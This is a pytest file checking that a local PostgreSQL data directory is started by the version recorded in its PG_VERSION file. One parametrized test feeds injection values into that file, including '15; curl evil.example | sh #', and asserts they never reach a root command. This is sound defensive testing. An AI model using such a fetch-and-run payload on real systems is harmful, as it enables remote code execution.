"""A warehouse is started by the PostgreSQL that made it, whatever else is installed: no other reads its files."""

from pathlib import Path

import pytest

from config.errors import TerminalError
from config.secret_settings import SecretSettings
from utilities.local_servers import artifacts, postgres
from utilities.local_servers.artifacts import Artifacts
from utilities.local_servers.environment import ensure_secrets
from utilities.local_servers.settings import LocalServerSettings
from utilities.local_servers.stack import Stack


class Machine:
    """Its folders of PostgreSQL, and a folder that is the whole PATH."""

    def __init__(self, directory: Path) -> None:
        self.debian, self.programs, self.data = directory / "postgresql", directory / "bin", directory / "data"
        for folder in (self.debian, self.programs, self.data):
            folder.mkdir()

    def install(self, version: str, folder: Path | None = None) -> Path:
        """A program that says that it is of `version`; returns its folder."""
        folder = folder or self.debian / version.partition(".")[0] / "bin"
        folder.mkdir(parents=True, exist_ok=True)
        program = folder / "postgres"
        program.write_text(f"#!/bin/sh\necho 'postgres (PostgreSQL) {version}'\n")
        program.chmod(0o755)
        return folder

    def holds(self, version: str) -> None:
        (self.data / "PG_VERSION").write_text(f"{version}\n")


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Machine:
    machine = Machine(tmp_path)
    monkeypatch.setattr(artifacts, "DEBIAN_POSTGRES", machine.debian)
    monkeypatch.setenv("PATH", str(machine.programs))
    return machine


def test_a_first_start_takes_the_newest(machine: Machine) -> None:
    installed = Artifacts(Path())
    with pytest.raises(TerminalError, match="PostgreSQL is not installed: apt-get install postgresql"):
        installed.postgres(machine.data)
    assert installed.postgres_version(machine.data) == "not installed"
    on_path = machine.install("12.1", machine.programs)
    assert installed.postgres(machine.data) == on_path
    machine.install("9.4.26", machine.debian / "9.4" / "bin")
    newest = machine.install("15.7")
    assert installed.postgres(machine.data) == newest
    assert installed.postgres_version(machine.data) == "15.7"


def test_a_warehouse_keeps_its_version_when_a_newer_one_is_installed_beside_it(machine: Machine) -> None:
    installed = Artifacts(Path())
    own = machine.install("15.7")
    machine.holds("15")
    machine.install("17.2")
    assert installed.postgres(machine.data) == own
    assert installed.postgres_version(machine.data) == "15.7"


@pytest.mark.parametrize(("version", "made_by"), [("15.7", "15"), ("9.6.24", "9.6")])
def test_a_version_that_only_the_path_has_is_found(machine: Machine, version: str, made_by: str) -> None:
    machine.install("17.2")
    machine.holds(made_by)
    on_path = machine.install(version, machine.programs)
    assert Artifacts(Path()).postgres(machine.data) == on_path


def test_a_warehouse_whose_version_is_gone_is_one_line_that_names_the_package(machine: Machine) -> None:
    machine.install("17.2")
    machine.install("18.0", machine.programs)
    machine.holds("15")
    with pytest.raises(TerminalError, match=r"PostgreSQL 15 is not installed, .*apt-get install postgresql-15 "):
        Artifacts(Path()).postgres(machine.data)
    assert Artifacts(Path()).postgres_version(machine.data) == "not installed"


@pytest.mark.parametrize(
    "written", ["15; curl evil.example | sh #", "15 evil", "9.6.24", "\u0661\u0665", "15\\x1b[2J", "/"]
)
def test_what_the_servers_account_writes_for_a_version_is_in_no_command_that_root_is_told(
    machine: Machine, written: str
) -> None:
    machine.holds(written)
    with pytest.raises(TerminalError, match=r"^PostgreSQL is not installed: apt-get install postgresql$"):
        Artifacts(Path()).postgres(machine.data)
    newest = machine.install("17.2")
    assert Artifacts(Path()).postgres(machine.data) == newest


def test_the_next_start_links_the_program_of_the_stored_version(
    machine: Machine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MILLRACE_ENV_FILE", str(tmp_path / ".env"))
    monkeypatch.setenv("MILLRACE_STATE_DIRECTORY", str(tmp_path))
    for server in ("SOURCE_BROKERS", "KAFKA_BROKERS", "MONGO_HOST", "ELASTICSEARCH_HOST"):
        monkeypatch.setenv(server, "elsewhere")
    # Which may not enter the places of root's tests.
    monkeypatch.setattr(postgres, "server_user", lambda: None)
    ensure_secrets(tmp_path / ".env")
    own = machine.install("15.7")

    def started_with() -> Path:
        [server] = Stack(LocalServerSettings.load(), SecretSettings.load()).servers
        server.link_programs(again=True)
        [link] = server.programs
        return link.readlink()

    directory = LocalServerSettings.load().stack_directory / "postgres" / "data"
    directory.mkdir(parents=True)
    assert started_with() == own
    (directory / "PG_VERSION").write_text("15\n")
    machine.install("17.2")
    assert started_with() == own
